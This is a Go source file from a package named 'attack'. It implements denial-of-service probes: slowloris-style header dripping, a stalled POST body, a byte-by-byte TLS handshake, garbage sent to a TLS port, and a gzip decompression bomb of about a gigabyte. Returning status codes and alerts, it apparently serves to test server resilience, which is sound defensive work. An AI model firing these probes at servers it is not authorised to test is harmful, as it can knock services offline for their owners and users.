package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// slowPause is between two bytes of what comes slowly.
const slowPause = 200 * time.Millisecond

func slowHead(ctx context.Context, t Target) (string, error) {
	c, done, err := dial(ctx, t.Plain)
	if err != nil {
		return "", err
	}
	defer done()
	go drip(ctx, c, "GET / HTTP/1.1\r\nHost: a\r\n"+strings.Repeat("X: y\r\n", 1000), slowPause)
	return status(ctx, c)
}

// slowBody stops in the middle of a body.
func slowBody(ctx context.Context, t Target) (string, error) {
	c, done, err := dial(ctx, t.Plain)
	if err != nil {
		return "", err
	}
	defer done()
	io.WriteString(c, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n")
	go drip(ctx, c, "abc", slowPause)
	return status(ctx, c)
}

// slowHandshake sends the first record of a client byte by byte.
func slowHandshake(ctx context.Context, t Target) (string, error) {
	c, done, err := dial(ctx, t.Secure)
	if err != nil {
		return "", err
	}
	defer done()
	go drip(ctx, c, clientHello(), slowPause)
	return alert(ctx, c)
}

// clientHello is the first record of a client.
var clientHello = sync.OnceValue(func() string {
	near, far := net.Pipe()
	defer near.Close()
	go tls.Client(far, &tls.Config{ServerName: "localhost"}).Handshake()
	b := make([]byte, 4096)
	n, _ := near.Read(b)
	return string(b[:n])
})

// garbage sends something that is not TLS instead of a handshake.
func garbage(text string) func(context.Context, Target) (string, error) {
	return func(ctx context.Context, t Target) (string, error) {
		c, done, err := dial(ctx, t.Secure)
		if err != nil {
			return "", err
		}
		defer done()
		io.WriteString(c, text)
		return alert(ctx, c)
	}
}

// decompressionBomb sends a small body that unpacks to a gigabyte.
func decompressionBomb(ctx context.Context, t Target) (string, error) {
	c, done, err := dial(ctx, t.Plain)
	if err != nil {
		return "", err
	}
	defer done()
	b := bomb()
	fmt.Fprintf(c, "POST / HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n", len(b))
	go c.Write(b)
	return status(ctx, c)
}

var bomb = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	z, _ := gzip.NewWriterLevel(&b, gzip.BestSpeed)
	zeros := make([]byte, 1<<20)
	for range 1024 {
		z.Write(zeros)
	}
	z.Close()
	return b.Bytes()
})
